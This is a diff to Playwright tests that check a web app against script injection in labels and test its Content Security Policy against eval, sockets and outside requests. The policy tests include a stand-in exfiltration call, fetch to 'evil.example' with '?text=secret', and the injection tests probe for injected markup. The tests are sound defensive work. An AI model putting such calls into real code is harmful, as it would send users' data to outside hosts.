@@ -36,7 +36,8 @@ test.describe("a whole session", () => {
       expect(served.requests.slice(arrived)).toEqual([]);
       // Nothing of the texts and labels became markup, and none of it ran.
       expect(await page.evaluate(() => (window as { pwned?: boolean }).pwned)).toBeUndefined();
-      expect(await page.locator("main img, main script, main iframe, main b, main style").count()).toBe(0);
+      const markup = page.locator("main img, main script, main iframe, main [onclick], main [onerror], main b:has-text('x')");
+      expect(await markup.evaluateAll((all) => all.map(({ outerHTML }) => outerHTML))).toEqual([]);
       await expectAccessible(page, "result with markup in labels");
       await screenshot(page, "hostile-labels", true);
     } finally {
@@ -58,7 +59,7 @@ function hostileTable(): string {
 
 test.describe("the policy", () => {
   test.use({
-    expectedErrors: [/Content Security Policy/, /violates the following/, /evil\.example/],
+    expectedErrors: [/Content Security Policy|violates the following|evil\.example/],
     otherOrigins: [/^(https|wss):\/\/evil\.example\//],
   });
 
@@ -77,7 +78,19 @@ test.describe("the policy", () => {
         }
       };
       return {
-        code: await outcome(() => new Function("return 1")() as unknown),
+        // Later, because what the debugger itself evaluates is excepted from the policy.
+      code: await outcome(
+        () =>
+          new Promise((done, fail) =>
+            setTimeout(() => {
+              try {
+                done(new Function("return 1")());
+              } catch (error) {
+                fail(error as Error);
+              }
+            }),
+          ),
+      ),
         request: await outcome(() => fetch("https://evil.example/?text=secret", { mode: "no-cors" })),
         socket: await outcome(
           () =>
